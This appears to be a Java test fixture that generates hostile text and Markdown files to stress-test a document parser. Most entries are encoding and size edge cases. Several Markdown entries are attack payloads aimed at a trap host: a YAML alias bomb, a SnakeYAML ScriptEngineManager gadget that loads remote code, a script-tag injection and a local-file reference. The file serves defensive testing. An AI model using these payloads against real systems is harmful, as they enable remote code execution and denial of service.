package org.chancery.document.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Plain text and Markdown that mean harm. */
final class HostileText {
    private static final String GOOD = "Norway backs the talks, and Malta is an ally of Egypt, the minister said. ";

    private HostileText() {}

    static void addTo(Map<String, byte[]> files, Trap trap) {
        addCharsets(files);
        addLetters(files);
        addLengths(files);
        addNames(files);
        addMarkdown(files, trap);
    }

    private static void addCharsets(Map<String, byte[]> files) {
        files.put("nul.txt", (GOOD + "\0" + GOOD).getBytes(UTF_8));
        files.put("bad-utf8.txt", join(GOOD.getBytes(UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE}));
        files.put("overlong-utf8.txt", join(new byte[] {(byte) 0xC0, (byte) 0xAF}, GOOD.getBytes(UTF_8)));
        files.put("utf16-le-mark.txt", ("\uFEFF" + GOOD).getBytes(UTF_16LE));
        files.put("utf16-be-mark.txt", ("\uFEFF" + GOOD).getBytes(UTF_16BE));
        files.put("utf16-no-mark.txt", GOOD.getBytes(UTF_16LE));
        files.put("utf16-odd.txt", join(new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {65, 0, 66}));
        files.put(
                "utf16-lone-surrogate.txt",
                join(("\uFEFF" + GOOD).getBytes(UTF_16LE), new byte[] {0, (byte) 0xD8, 65, 0}));
        files.put(
                "cesu-surrogates.txt", join(GOOD.getBytes(UTF_8), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        files.put("mark-only.txt", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        files.put("empty.txt", new byte[0]);
        files.put("one-character.txt", "a".getBytes(UTF_8));
        files.put("latin-1.txt", ("Émile Zola de " + GOOD).getBytes(ISO_8859_1));
        files.put("elf.txt", new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0});
        files.put("picture.md", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13});
        files.put(
                "controls.txt",
                "\u0001\u0002\u0003\u0004\u0007\u001B[31mred".repeat(500).getBytes(UTF_8));
    }

    private static void addLetters(Map<String, byte[]> files) {
        put(
                files,
                "bidi.txt",
                "\u202EThe minister of Norway\u202C said \u2066\u2067that\u2069 Malta is an ally. " + GOOD);
        put(files, "homoglyphs.txt", "Nоrwаy bаcks Mаltа, аnd Еgypt is аn аlly оf Nоrwаy. " + GOOD);
        put(files, "zero-width.txt", "Nor\u200Bway \u200Dbacks\u2060 Mal\uFEFFta. ".repeat(500) + GOOD);
        put(files, "combining.txt", "N" + "\u0301".repeat(5000) + "orway backs Malta. " + GOOD);
        put(files, "zalgo.txt", "o\u0338\u0321\u0489".repeat(20_000) + ". " + GOOD);
        put(files, "right-to-left.txt", "سوريا تدعم روسيا. ".repeat(50));
        put(files, "emoji.txt", "Norway 🇳🇴 backs Malta 🇲🇹 👩‍👩‍👧‍👦. ".repeat(200) + GOOD);
        put(files, "private-use.txt", "\uE000\uF8FF\uFFFE\uFFFF " + GOOD);
        put(files, "line-separators.txt", "Norway backs Malta.\u2028\u2029\u0085\u000B\u000C".repeat(500) + GOOD);
    }

    private static void addLengths(Map<String, byte[]> files) {
        put(files, "one-line.txt", "a ".repeat(50_000_000));
        put(files, "long-word.txt", "x".repeat(5_000_000) + " " + GOOD);
        put(files, "empty-paragraphs.txt", GOOD + "\n\n \n".repeat(10_000) + GOOD);
        put(files, "short-paragraphs.txt", "a\n\n".repeat(500_000));
        put(files, "endless-sentence.txt", "Norway and Malta and ".repeat(25_000) + GOOD);
        put(files, "punctuation.txt", "?!.,;:-()".repeat(50_000));
        put(files, "numbers.txt", "12 345 6789 ".repeat(100_000));
        put(files, "table.txt", "Malta\t12\t34.5\tno\t-\n".repeat(10_000));
        put(files, "open-quotes.txt", "\"Norway “said «that ‘Malta ".repeat(5_000) + GOOD);
        put(
                files,
                "parentheses.txt",
                "Norway " + "(of ".repeat(5_000) + "Malta" + ")".repeat(5_000) + " spoke. " + GOOD);
        put(files, "brackets.txt", "([{<".repeat(50_000) + GOOD);
        put(files, "carriage-returns.txt", "\r".repeat(1_000_000) + GOOD);
        put(files, "spaces.txt", "Norway" + " ".repeat(2_000_000) + "backs Malta. " + GOOD);
        put(files, "hyphens.txt", "Norway" + "-".repeat(200_000) + "Malta. " + GOOD);
        put(files, "by-lines.txt", ("By " + "Ada ".repeat(2_000) + "\n\n").repeat(50) + GOOD);
        put(files, "dates.txt", "On 3 May 2021, 4 May 2021 and 5 May 2021 ".repeat(3_000) + GOOD);
        put(files, "capitals.txt", "NORWAY BACKS MALTA AND EGYPT, THE MINISTER SAID. ".repeat(500));
    }

    private static void addNames(Map<String, byte[]> files) {
        put(files, "ten-thousand-actors.txt", actors(10_000));
        put(files, "one-name.txt", "Ivan Petrov met Ivan Petrov. ".repeat(5_000));
        put(
                files,
                "and-chain.txt",
                IntStream.range(0, 500)
                        .mapToObj(i -> "General Al" + letters(i))
                        .collect(Collectors.joining(" and ", "", " met the president of Norway. "))
                        .repeat(5));
        put(files, "he-said.txt", "He said that she said that they said it. ".repeat(3_000));
    }

    private static String actors(int count) {
        return IntStream.range(0, count)
                .mapToObj(i -> "Mr. Be" + letters(i) + " Ko" + letters(count - i) + " met the envoy.")
                .collect(Collectors.joining(" "));
    }

    private static String letters(int number) {
        String letters = Integer.toString(number, 26);
        return letters.chars()
                .map(c -> c <= '9' ? 'a' + c - '0' : c)
                .mapToObj(Character::toString)
                .collect(Collectors.joining());
    }

    private static void addMarkdown(Map<String, byte[]> files, Trap trap) {
        put(files, "quotes.md", ">".repeat(5_000) + " " + GOOD);
        put(
                files,
                "lists.md",
                IntStream.range(0, 1_000)
                        .mapToObj(i -> " ".repeat(2 * i) + "- Norway")
                        .collect(Collectors.joining("\n")));
        put(files, "links.md", "[".repeat(100_000) + GOOD);
        put(files, "stars.md", "*a **b ".repeat(30_000) + GOOD);
        put(
                files,
                "backticks.md",
                IntStream.range(1, 2_000).mapToObj("`"::repeat).collect(Collectors.joining(" ")) + GOOD);
        put(files, "pictures.md", ("![x](" + trap.web() + ") <img src='" + trap.web() + "'>\n\n").repeat(100) + GOOD);
        put(files, "references.md", "[a]: " + trap.file() + "\n\n![a]\n\n" + GOOD);
        put(files, "front-matter.md", "---\n" + "title: x\n".repeat(200_000) + "---\n" + GOOD);
        put(files, "alias-bomb.md", "---\na: &a [x,x,x,x,x,x,x,x,x]\n" + aliases() + "title: *i\n---\n" + GOOD);
        put(files, "yaml-depth.md", "---\ntitle: " + "[".repeat(20_000) + "\n---\n" + GOOD);
        put(
                files,
                "yaml-class.md",
                "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URL [\"" + trap.web() + "\"]]\n---\n"
                        + GOOD);
        put(files, "html-in.md", "<script src='" + trap.web() + "'></script>\n\n" + GOOD);
    }

    private static String aliases() {
        return "bcdefghi"
                .chars()
                .mapToObj(c -> (char) c + ": &" + (char) c + " [" + ("*" + (char) (c - 1) + ",").repeat(9) + "]\n")
                .collect(Collectors.joining());
    }

    private static void put(Map<String, byte[]> files, String name, String text) {
        files.put(name, text.getBytes(UTF_8));
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] joined = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }
}
